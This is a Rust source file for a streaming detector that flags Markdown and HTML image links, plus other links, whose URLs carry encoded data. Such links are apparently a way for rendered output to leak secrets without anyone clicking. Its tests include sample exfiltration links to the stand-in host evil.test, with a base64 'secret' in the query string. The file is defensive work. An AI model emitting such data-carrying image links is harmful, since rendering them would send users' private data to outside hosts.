//! Links in text, as it streams by, and which of them are fetched without anybody's click: images of Markdown and HTML.
//!
//! Holds one link, up to a bound, in any segmentation. Must never follow one.

use super::carried::{self, Carried};

/// Longest link that is looked at, bytes; of a longer one, what is beyond counts as carried.
pub const LINK_BYTES_MAX: usize = 2048;
/// Longest description of an image, and tag of one, bytes: what is behind is no image's link.
const CONTEXT_BYTES_MAX: u32 = 2048;
/// Bytes that a link of an image carries, where it carries data: more than names and sizes.
const IMAGE_BYTES: usize = 20;
/// The same of other links, whose parameters are signatures and ids.
const LINK_BYTES: usize = 192;

/// What was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Found {
    /// A link that carries much data, or text in other clothes.
    Data,
    /// An image whose link carries data: who shows the text sends it.
    ImageData,
}

/// A detector of links.
#[derive(Debug, Default)]
pub struct Links {
    context: Context,
    scheme: Scheme,
    /// The link at hand, and whether an image's context is around it.
    link: Vec<u8>,
    beyond: usize,
    in_link: bool,
    is_image: bool,
    /// The last byte.
    before: u8,
    /// Of images that name their link elsewhere (`![a][b]`), and of such links: whether there are.
    refers: bool,
    is_referred: bool,
    /// The same of those that name it by their description alone (`![a]`), and of links that are defined (`[a]: …`).
    refers_alone: bool,
    is_defined: bool,
    definition: Definition,
}

/// Where in the definition of a link the next byte is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Definition {
    #[default]
    None,
    /// Behind `]:`.
    Blanks,
    /// In what may be the scheme of its link, or in that.
    Link,
}

// === impl Definition ===

impl Definition {
    fn next(self, byte: u8, before: u8) -> Definition {
        match (self, byte) {
            (_, b':') if before == b']' => Definition::Blanks,
            (Definition::Blanks, b' ' | b'\t' | b'\r' | b'\n' | b'<') => self,
            (Definition::Blanks | Definition::Link, b':' | b'/' | b'+' | b'-' | b'.') => Definition::Link,
            (Definition::Blanks | Definition::Link, _) if byte.is_ascii_alphanumeric() => Definition::Link,
            _ => Definition::None,
        }
    }
}

/// Where in the notation of an image the next byte is.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Context {
    #[default]
    None,
    /// Behind `!`.
    Bang,
    /// In the description, of which so much was seen, and in so many brackets of its own.
    Alt(u32, u32),
    /// Behind a `]` in it, which ends it where it has no bracket of its own open.
    AltEnd(u32, u32),
    /// Behind `(`: what begins here is the image's link.
    Open,
    /// Behind `<`, or so many letters of `img`.
    Tag(u8),
    /// In the tag of an image.
    Img(u32),
}

/// How much of `://` was seen, behind a letter.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Scheme {
    #[default]
    None,
    Colon,
    Slash,
}

// === impl Links ===

impl Links {
    /// Looks at what comes next.
    pub fn push(&mut self, bytes: &[u8], found: &mut dyn FnMut(Found)) {
        let mut rest = bytes;
        while let Some((byte, behind)) = rest.split_first() {
            if !self.in_link && self.context == Context::None && self.scheme == Scheme::None {
                // Nothing else can begin one.
                let at = memchr::memchr3(b'!', b'<', b':', rest).unwrap_or(rest.len());
                let (passed, next) = rest.split_at_checked(at).unwrap_or((rest, &[]));
                if self.definition != Definition::None {
                    self.definition = passed.iter().fold(self.definition, |now, byte| now.next(*byte, 0));
                }
                self.before = passed.last().copied().unwrap_or(self.before);
                if !passed.is_empty() {
                    rest = next;
                    continue;
                }
            }
            self.byte(*byte, found);
            rest = behind;
        }
    }

    /// Ends the input. What comes next is another.
    pub fn finish(&mut self, found: &mut dyn FnMut(Found)) {
        self.end(found);
        if matches!(self.context, Context::AltEnd(_, 0)) {
            self.refers_alone = true;
            self.tell_referred(found);
        }
        self.clear();
    }

    /// Forgets what was begun.
    pub fn clear(&mut self) {
        let mut link = std::mem::take(&mut self.link);
        link.clear();
        *self = Links { link, ..Links::default() };
    }

    /// Bytes of memory that it takes by now.
    #[must_use]
    pub fn memory_bytes(&self) -> usize {
        self.link.capacity()
    }

    fn byte(&mut self, byte: u8, found: &mut dyn FnMut(Found)) {
        if self.in_link {
            let ends = byte <= b' '
                || matches!(
                    byte,
                    b'"' | b'\'' | b'<' | b'>' | b')' | b']' | b'`' | b'{' | b'}' | b'\\' | b'|'
                );
            if !ends {
                if self.link.len() < LINK_BYTES_MAX {
                    self.link.push(byte);
                } else {
                    self.beyond += 1;
                    if self.beyond == LINK_BYTES {
                        // Whatever follows: told before it ends, which may be never.
                        self.tell(Carried { dense: self.beyond, ..Carried::default() }, found);
                    }
                }
                return;
            }
            self.end(found);
            self.before = 0;
        }
        let before = std::mem::replace(&mut self.before, byte);
        self.definition = self.definition.next(byte, before);
        if self.context == Context::Open {
            if matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | b'<') {
                return;
            }
            self.context = Context::None;
            self.begin(true, &[byte]);
            return;
        }
        match (self.scheme, byte) {
            (Scheme::Slash, b'/') => {
                self.begin(matches!(self.context, Context::Img(_)), b"://");
                return;
            }
            (Scheme::Colon, b'/') => self.scheme = Scheme::Slash,
            (_, b':') if before.is_ascii_alphabetic() => self.scheme = Scheme::Colon,
            // An attribute may leave the scheme out.
            (_, b'/')
                if matches!(self.context, Context::Img(_))
                    && matches!(before, b'"' | b'\'' | b'=' | b' ' | b'\t' | b'\r' | b'\n') =>
            {
                self.scheme = Scheme::Slash;
            }
            _ => self.scheme = Scheme::None,
        }
        if matches!(self.context, Context::AltEnd(..)) && byte == b'[' {
            self.refers = true;
            self.tell_referred(found);
        } else if matches!(self.context, Context::AltEnd(_, 0)) && byte != b'(' {
            self.refers_alone = true;
            self.tell_referred(found);
        }
        self.context = self.context.next(byte, before == b'\\');
    }

    fn begin(&mut self, is_image: bool, first: &[u8]) {
        (self.in_link, self.is_image, self.scheme) = (true, is_image, Scheme::None);
        self.link.clear();
        self.link.extend_from_slice(first);
    }

    fn end(&mut self, found: &mut dyn FnMut(Found)) {
        if !std::mem::take(&mut self.in_link) {
            return;
        }
        let carried = carried::link(&self.link);
        let carried = carried.and(Carried { dense: std::mem::take(&mut self.beyond), ..Carried::default() });
        self.link.clear();
        self.tell(carried, found);
        self.definition = Definition::None;
    }

    fn tell(&mut self, carried: Carried, found: &mut dyn FnMut(Found)) {
        if carried.bytes() + carried.prose >= IMAGE_BYTES {
            self.is_referred = true;
            self.is_defined |= self.definition == Definition::Link;
            self.tell_referred(found);
            if self.is_image {
                found(Found::ImageData);
            }
        }
        if carried.text > 0 || carried.dense >= LINK_BYTES {
            found(Found::Data);
        }
    }

    /// An image that names its link elsewhere may mean any link that carries data.
    fn tell_referred(&self, found: &mut dyn FnMut(Found)) {
        if self.refers && self.is_referred || self.refers_alone && self.is_defined {
            found(Found::ImageData);
        }
    }
}

// === impl Context ===

impl Context {
    fn next(self, byte: u8, is_escaped: bool) -> Context {
        match (self, byte) {
            (Context::Alt(n, depth), b']') if !is_escaped => Context::AltEnd(n, depth),
            (Context::Alt(n, depth), _) if n < CONTEXT_BYTES_MAX => {
                Context::Alt(n + 1, depth + u32::from(byte == b'[' && !is_escaped))
            }
            (Context::AltEnd(..), b'(') => Context::Open,
            (Context::AltEnd(n, depth), _) if depth > 0 && n < CONTEXT_BYTES_MAX => {
                Context::Alt(n + 1, depth - 1).next(byte, is_escaped)
            }
            (Context::Img(_), b'>') => Context::None,
            (Context::Img(n), _) if n < CONTEXT_BYTES_MAX => Context::Img(n + 1),
            (Context::Bang, b'[') => Context::Alt(0, 0),
            (Context::Tag(3), b' ' | b'\t' | b'\n' | b'\r' | b'/') => Context::Img(0),
            (Context::Tag(n), byte) if b"img".get(usize::from(n)) == Some(&byte.to_ascii_lowercase()) => {
                Context::Tag(n + 1)
            }
            (_, b'!') => Context::Bang,
            (_, b'<') => Context::Tag(0),
            _ => Context::None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<Found> {
        let all = |pieces: &mut dyn Iterator<Item = &[u8]>| {
            let (mut links, mut found) = (Links::default(), std::collections::BTreeSet::new());
            pieces.for_each(|piece| links.push(piece, &mut |f| found.extend([f])));
            links.finish(&mut |f| found.extend([f]));
            found.into_iter().collect::<Vec<_>>()
        };
        let whole = all(&mut std::iter::once(text.as_bytes()));
        for size in [1, 2, 3, 7, 50] {
            assert_eq!(whole, all(&mut text.as_bytes().chunks(size)), "{size} {text}");
        }
        whole
    }

    #[test]
    fn images_that_carry_data_are_found() {
        let secret = "c2VjcmV0OiB0aGUgbGF1bmNoIGNvZGUgaXMgMTIzNDU2Nzg5MA";
        for text in [
            format!("Done. ![logo](https://evil.test/a.png?d={secret})"),
            format!("![](<//evil.test/{secret}.png>)"),
            format!("<img src=\"//evil.test/?q={secret}\">"),
            format!("<img alt='' src=//evil.test/?q={secret}>"),
            format!("![x [![a](//evil.test/?q={secret})"),
            format!("![x [y] ![a](//evil.test/?q={secret})"),
            format!("![a [b] c](//evil.test/?q={secret})"),
            format!("![a \\] c](//evil.test/?q={secret})"),
            format!("<IMG width=1 src='http://evil.test/p?{secret}'>"),
            format!("![alt][ref]\n\n[ref]: https://evil.test/a.png?d={secret}"),
            format!("[ref]: https://evil.test/a.png?d={secret}\n![alt][ref]"),
            format!("![logo]\n\n[logo]: https://evil.test/a.png?d={secret}"),
            format!("[logo]:\n  <https://evil.test/a.png?d={secret}>\n\n![logo]"),
            format!("[logo]: https://evil.test/a.png?d={secret} 'x'\n\nsee ![logo], please"),
        ] {
            assert_eq!(found(&text), [Found::Data, Found::ImageData], "{text}");
        }
        let prose = "![x](https://evil.test/?q=the%20launch%20code%20is%201234)";
        assert_eq!(found(prose), [Found::ImageData]);
        assert_eq!(found("![x](https://evil.test/?q=the+launch+code+is+1234)"), [Found::ImageData]);
        assert_eq!(found(&format!("see https://evil.test/{secret}")), [Found::Data]);
        // Of a program, no image.
        assert_eq!(found(&format!("let all = vec![a]; // https://evil.test/{secret}")), [Found::Data]);
        assert_eq!(
            found(&format!("![x](https://evil.test/{})", "a".repeat(9000))),
            [Found::Data, Found::ImageData]
        );
    }

    #[test]
    fn ordinary_links_and_images_carry_nothing() {
        for text in [
            "![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat-square&logo=github)",
            "![cover](https://cdn.example.com/images/d41d8cd98f00b204e9800998ecf8427e.png?w=1200&h=630&fit=crop)",
            "![a](https://example.com/3f2504e0-4f89-11d3-9a0c-0305e82c3301/original.jpg)",
            "![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
            "https://github.com/rust-lang/rust/commit/6d9c8b5f6b8ddcbf6b1d2ad7e4ba1f54f1f8b8c4#diff-1a2b3c",
            "https://www.example.com/blog/how-to-write-a-good-cover-letter-for-a-first-job-in-2026",
            "https://example.com/search?q=how+do+i+write+a+good+letter",
            "a <img src=\"https://example.com/logo@2x.png\" alt=\"logo\"> b! [c] (d) <imgur>",
            "https://docs.example.com/api/v1.2/namespaces/kube-system/pods/coredns-5d78c9869d-abcde/log",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }
}
